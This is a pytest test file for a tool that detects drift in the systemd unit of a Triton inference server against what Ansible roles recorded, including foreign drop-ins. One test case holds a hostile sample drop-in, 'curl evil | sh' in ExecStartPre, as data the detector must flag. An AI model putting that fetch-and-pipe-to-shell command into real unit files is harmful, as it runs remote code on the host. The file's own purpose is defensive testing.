"""Every property of the unit as systemd runs it against what the roles recorded (infra/tritonops/agent/
effective.py: ``unit_properties``, ``compare_properties``): a drop-in that sets anything the roles do not
is a finding, whatever its name; what systemd changes at run time is not, nor are the project's own
drop-ins (model_repository's and release_agent's deadman, ``tritonops-*.conf``) once recorded.

``data/systemctl_show_tritonserver.txt`` is a real ``systemctl show tritonserver.service`` (systemd 252,
a Podman node converged by ansible/edge.yml); CONVERGED adds model_repository's deadman drop-in as
systemd shows it once loaded. The roles' recording task (the same two patterns, in Jinja) is run for
real in tests/infra/triton_server/test_unit_record.py."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from tritonops.agent import effective

DATA = Path(__file__).parent / "data"
REPO = Path(__file__).resolve().parents[3]
SHOW = effective.parse_show((DATA / "systemctl_show_tritonserver.txt").read_text())
OWN = "/etc/systemd/system/tritonserver.service.d/tritonops-model-repository.conf"
DROP_IN = "/etc/systemd/system/tritonserver.service.d/override.conf"
RECOVER = ("{ path=/usr/bin/python3 ; argv[]=/usr/bin/python3 /usr/local/lib/tritonops-model-repository/"
           "tritonops-agent.pyz recover --link /var/lib/triton/models --releases /var/lib/triton/releases "
           "--grace ${TRITONOPS_RECOVER_GRACE} ; ignore_errors=no ; start_time=[n/a] ; stop_time=[n/a] ; pid=0 ; "
           "code=(null) ; status=0/0 }")
CONVERGED = {**SHOW, "NeedDaemonReload": "no", "DropInPaths": OWN,
             "Environment": SHOW["Environment"] + " TRITONOPS_RECOVER_GRACE=0",
             "ExecStartPre": RECOVER, "ExecStartPreEx": RECOVER.replace("ignore_errors=no", "flags=privileged")}
EXPECTED = {"service": "tritonserver.service", "user": "triton", "unit_args": [], "args": []}


def _live(changes: dict[str, str]) -> dict[str, str]:
    return {k: v for k, v in {**CONVERGED, **changes}.items() if v != ""}


def _restarted() -> dict[str, str]:
    """The same unit after a restart, and another unit ordered after it: what systemd itself changes
    (the ExecStartPre's last run included), none of it drift."""
    ran = "start_time=[Tue 2026-12-01 09:00:00 UTC] ; stop_time=[Tue 2026-12-01 09:00:01 UTC] ; pid=812 ; code=exited"
    return _live({
        "MainPID": "4242", "ExecMainPID": "4242", "InvocationID": "0123456789abcdef0123456789abcdef",
        "ActiveEnterTimestamp": "Tue 2026-12-01 09:00:00 UTC", "ActiveEnterTimestampMonotonic": "99",
        "ExecMainStartTimestamp": "Tue 2026-12-01 09:00:00 UTC", "NRestarts": "3",
        "ControlGroupId": "9999", "MemoryCurrent": "123456789", "TasksCurrent": "42", "CPUUsageNSec": "5000",
        "NeedDaemonReload": "yes", "UID": "997", "GID": "997", "EffectiveCPUs": "0-3",
        "Before": CONVERGED["Before"] + " other.service", "After": CONVERGED["After"] + " other.mount",
        "ExecStartPre": RECOVER.replace("start_time=[n/a] ; stop_time=[n/a] ; pid=0 ; code=(null)", ran),
        "ExecStart": CONVERGED["ExecStart"].replace("start_time=[n/a] ; stop_time=[n/a] ; pid=0 ; code=(null)",
                                                    "start_time=[Tue 2026-12-01 09:00:00 UTC] ; stop_time=[n/a] ; "
                                                    "pid=4242 ; code=(null)"),
    })


def _unit(live: dict[str, str]) -> dict[str, Any]:
    return {"unit": effective.unit_state(live), "process": None}


def _found(live: dict[str, str], expected: dict[str, Any] | None = None,
           recorded: dict[str, str] | None = None) -> dict[str, str]:
    exp = expected or {**EXPECTED, "unit_args": _unit(CONVERGED)["unit"]["exec_start"][0]}
    record = effective.unit_properties(CONVERGED) if recorded is None else recorded
    return {f["resource"]: f["detail"] for f in effective.compare(exp, _unit(live), record)
            if f["resource"].startswith("unit:")}


def test_the_unit_as_recorded_and_after_restarts_is_clean() -> None:
    """The project's own drop-in, recorded, is no drift; nor is what systemd changes at run time."""
    assert _found(CONVERGED) == {}
    assert _found(_restarted()) == {}
    # Dependency lists come in hash order, another after a daemon-reload than after a boot: sets, not drift.
    reordered = {k: " ".join(reversed(CONVERGED[k].split())) for k in ("Requires", "Wants")}
    assert all(reordered[k] != CONVERGED[k] for k in reordered)
    assert _found({**CONVERGED, **reordered}) == {}


@pytest.mark.parametrize(("drop_in", "prop", "live", "detail"), [
    ("Environment=GRPC_TRACE=all", "Environment", CONVERGED["Environment"] + " GRPC_TRACE=all",
     f"{CONVERGED['Environment']} GRPC_TRACE=all, the role's unit has {CONVERGED['Environment']}"),
    ("LimitNOFILE=65536", "LimitNOFILE", "65536", "65536, the role's unit has 524288"),
    # Added to the deadman's own ExecStartPre: the one the drop-in adds is named, however long the other.
    ("ExecStartPre=/bin/sh -c 'curl evil | sh'", "ExecStartPre",
     RECOVER + "\n{ path=/bin/sh ; argv[]=/bin/sh -c curl evil | sh ; ignore_errors=no ; start_time=[n/a] ; "
     "stop_time=[n/a] ; pid=0 ; code=(null) ; status=0/0 }",
     "adds { path=/bin/sh ; argv[]=/bin/sh -c curl evil | sh ; ignore_errors=no }; the role's unit has 1 value"),
    ("ExecStartPre=", "ExecStartPre", "", "(empty), the role's unit has " + RECOVER[:RECOVER.index(" ; start_time")]
     + " }"),
    ("ReadOnlyPaths=", "ReadOnlyPaths", "", "(empty), the role's unit has /var/lib/triton/models"),
    ("ProtectSystem=no", "ProtectSystem", "no", "no, the role's unit has strict"),
    ("Wants=evil.service", "Wants", CONVERGED["Wants"] + " evil.service",
     "evil.service network-online.target tmp.mount, the role's unit has network-online.target tmp.mount"),
])
def test_a_drop_in_setting_what_the_roles_do_not_is_reported(drop_in: str, prop: str, live: str,
                                                               detail: str) -> None:
    """Each case a property no other check looks at; the drop-in is named, and its path is itself drift."""
    changes = {prop: live, **({"ExecStartPreEx": ""} if prop == "ExecStartPre" and not live else {})}
    found = _found({**_restarted(), "DropInPaths": f"{OWN} {DROP_IN}", **changes})
    assert set(found) == {f"unit:{prop}", "unit:DropInPaths"}, found
    assert found[f"unit:{prop}"] == f"{detail} (drop-ins: {OWN}, {DROP_IN})"
    assert found["unit:DropInPaths"].startswith(f"{OWN} {DROP_IN}, the role's unit has {OWN} (drop-ins:")


def test_the_projects_drop_in_removed_is_reported() -> None:
    """The record holds the deadman's drop-in: removed by hand, its absence is drift."""
    found = _found(_live({"DropInPaths": "", "ExecStartPre": "", "ExecStartPreEx": "",
                          "Environment": SHOW["Environment"]}))
    assert set(found) == {"unit:DropInPaths", "unit:ExecStartPre", "unit:Environment"}, found
    assert found["unit:DropInPaths"] == f"(empty), the role's unit has {OWN}"


@pytest.mark.parametrize(("recorded_drop_ins", "reported"), [
    (f"{OWN} {DROP_IN}", True),  # a stranger's drop-in there when a role recorded: still drift
    (f"{OWN} /etc/systemd/system/tritonserver.service.d/tritonops-release-agent.conf", False),
    (f"/usr/lib/systemd/system/service.d/10-timeout-abort.conf {OWN}", False),  # the distribution's
    (f"/etc/systemd/system.control/tritonserver.service.d/50-LimitNOFILE.conf {OWN}", True),  # set-property
])
def test_drop_ins_present_when_the_roles_recorded(recorded_drop_ins: str, reported: bool) -> None:
    """A record is a baseline for the project's own and the distribution's drop-ins only."""
    converged = {**CONVERGED, "DropInPaths": recorded_drop_ins}
    found = _found(converged, recorded=effective.unit_properties(converged))
    assert set(found) == ({"unit:DropInPaths"} if reported else set()), found
    if reported:
        assert found["unit:DropInPaths"].endswith(": not the project's (tritonops-*.conf), already there when "
                                                  "the roles recorded the unit"), found


def test_without_a_record_only_foreign_drop_ins_are_findings() -> None:
    exp = {**EXPECTED, "unit_args": _unit(CONVERGED)["unit"]["exec_start"][0]}
    assert [f["resource"] for f in effective.compare(exp, _unit(CONVERGED))] == ["process"]
    found = {f["resource"]: f["detail"] for f in effective.compare(
        exp, _unit({**CONVERGED, "DropInPaths": f"{OWN} {DROP_IN}", "LimitNOFILE": "65536"}))}
    assert set(found) == {"unit:DropInPaths", "process"}, found
    assert found["unit:DropInPaths"].startswith(f"{OWN} {DROP_IN}, the role's unit has {OWN}")


def test_another_binary_and_exec_start_twins() -> None:
    """ExecStart as a whole is compared when its arguments agree (another binary); one finding, not two."""
    other = CONVERGED["ExecStart"].replace("path=/opt/tritonserver/lib", "path=/tmp/lib")
    assert set(_found({**_restarted(), "ExecStart": other, "ExecStartEx": "changed too"})) == {"unit:ExecStart"}
    # Arguments differ: reported per flag only.
    poll = CONVERGED["ExecStart"].replace("--model-control-mode=explicit", "--model-control-mode=poll")
    assert set(_found({**_restarted(), "ExecStart": poll, "ExecStartEx": "changed too"})) == {
        "unit:--model-control-mode"}
    # A "+" prefix (full privileges, whatever User= says) shows in ExecStartEx alone.
    plus = CONVERGED["ExecStartEx"].replace("flags= ;", "flags=privileged ;")
    assert set(_found({**_restarted(), "ExecStartEx": plus})) == {"unit:ExecStartEx"}


def test_user_and_group() -> None:
    found = _found({**_restarted(), "User": "root", "Group": "root"})
    assert set(found) == {"unit:User", "unit:Group"}
    # The container unit sets no user for the role to compare on its own: the property says it.
    found = _found({**_restarted(), "User": "root"}, {**EXPECTED, "user": None,
                                                      "unit_args": _unit(CONVERGED)["unit"]["exec_start"][0]})
    assert found == {"unit:User": f"root, the role's unit has triton (drop-ins: {OWN})"}


def test_values_are_redacted_and_clipped() -> None:
    secret = "s3cr3t-value"
    pre = f"{{ path=/bin/x ; argv[]=/bin/x --http-restricted-api=model-repository:k={secret} ; ignore_errors=no }}"
    found = _found({**_restarted(), "ExecStartPre": pre, "Environment": "X=" + "y" * 1000})
    assert secret not in json.dumps(found) and "k=<redacted>" in found["unit:ExecStartPre"]
    assert len(found["unit:Environment"]) < 2 * effective.DETAIL_MAX


def test_repeated_properties_are_kept_one_a_line() -> None:
    text = ("ExecStartPre={ path=/bin/a ; argv[]=/bin/a ; ignore_errors=no ; start_time=[n/a] ; stop_time=[n/a] ; "
            "pid=0 ; code=(null) ; status=0/0 }\nExecStartPre={ path=/bin/b ; argv[]=/bin/b ; ignore_errors=yes ; "
            "start_time=[Tue 2026-12-01 09:00:00 UTC] ; stop_time=[Tue 2026-12-01 09:00:01 UTC] ; pid=7 ; "
            "code=exited ; status=0/0 }\nMainPID=7\n")
    assert effective.unit_properties(effective.parse_show(text)) == {
        "ExecStartPre": "{ path=/bin/a ; argv[]=/bin/a ; ignore_errors=no }\n{ path=/bin/b ; argv[]=/bin/b ; "
                        "ignore_errors=yes }"}


def test_the_record_next_to_the_expected_state_is_read_and_its_absence_is_a_finding(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    record = tmp_path / effective.UNIT_RECORD
    expected = tmp_path / "expected.json"
    expected.write_text(json.dumps({**EXPECTED, "unit_args": _unit(CONVERGED)["unit"]["exec_start"][0]}))
    live = {**_restarted(), "DropInPaths": f"{OWN} {DROP_IN}", "LimitNOFILE": "65536"}
    monkeypatch.setattr(effective, "systemd_show", lambda service: live)
    monkeypatch.setattr(effective, "posture_findings", lambda **kw: [])

    def found() -> list[str]:
        return [f["resource"] for f in effective.host_findings(expected) if f["resource"] != "process"]

    assert found() == ["triton:expected-unit", "unit:DropInPaths"]  # the stranger's drop-in all the same
    assert "tasks/record_unit.yml" in effective.host_findings(expected)[0]["detail"]
    record.write_text(json.dumps(effective.unit_properties(CONVERGED)))
    assert found() == ["unit:DropInPaths", "unit:LimitNOFILE"]
    record.write_text("[1]")
    assert found() == ["triton:expected-unit", "unit:DropInPaths"]


def test_the_roles_record_with_the_agents_patterns() -> None:
    """record_unit.yml records with effective's names and pattern, into the file effective reads."""
    block = yaml.safe_load((REPO / "roles" / "triton_server" / "tasks" / "record_unit.yml").read_text())[0]
    assert tuple(block["vars"]["_triton_server_unit_runtime"]) == effective.RUNTIME
    assert block["tritonops.triton.unit_record"] == {
        "unit": "{{ triton_server_service_name }}.service", "dest": "{{ _triton_server_unit_record }}",
        "fragment_path": "{{ _triton_server_unit }}", "runtime": "{{ _triton_server_unit_runtime }}",
        "sets": "{{ _triton_server_unit_sets }}", "exec_runtime": "{{ _triton_server_unit_exec_runtime }}"}
    assert block["vars"]["_triton_server_unit_exec_runtime"] == effective.EXEC_RUNTIME
    assert block["vars"]["_triton_server_unit_sets"] == effective.UNORDERED_PROPERTIES
    assert block["vars"]["_triton_server_unit_record"].endswith("/" + effective.UNIT_RECORD)
    assert block["when"] == "not ansible_check_mode"


ROLE_TURNS = [
    # (role, the task file that changes Triton's unit and loads the change, the record's include)
    ("triton_server", "service.yml", {"ansible.builtin.import_tasks": "record_unit.yml"}),
    ("model_repository", "deadman.yml",
     {"ansible.builtin.include_role": {"name": "triton_server", "tasks_from": "record_unit"}}),
    ("release_agent", "run.yml",
     {"ansible.builtin.include_role": {"name": "triton_server", "tasks_from": "record_unit"}}),
]


@pytest.mark.parametrize(("role", "changes", "include"), ROLE_TURNS, ids=[r[0] for r in ROLE_TURNS])
def test_every_role_that_changes_the_unit_records_it_after_its_change(role: str, changes: str,
                                                                      include: dict[str, Any]) -> None:
    """Each role's tasks/main.yml runs the one shared recording after the tasks that change Triton's
    unit and reload systemd (so the last role to change it in a converge leaves the record)."""
    tasks = yaml.safe_load((REPO / "roles" / role / "tasks" / "main.yml").read_text())
    files = [t.get("ansible.builtin.import_tasks") for t in tasks]
    records = [i for i, t in enumerate(tasks)
               if all(t.get(k) == v if isinstance(v, str) else (t.get(k) or {}).items() >= v.items()
                      for k, v in include.items())]
    assert len(records) == 1, f"roles/{role}/tasks/main.yml: one record_unit include"
    assert files.index(changes) < records[0]
    # The role's own tasks write Triton's unit or a drop-in for it only in the files before the record.
    after = [f for f in files[records[0] + 1:] if f]
    text = {f: (REPO / "roles" / role / "tasks" / f).read_text() for f in after}
    assert [f for f, t in text.items() if ".service.d" in t or "_dropin" in t or "_triton_server_unit" in t] == []
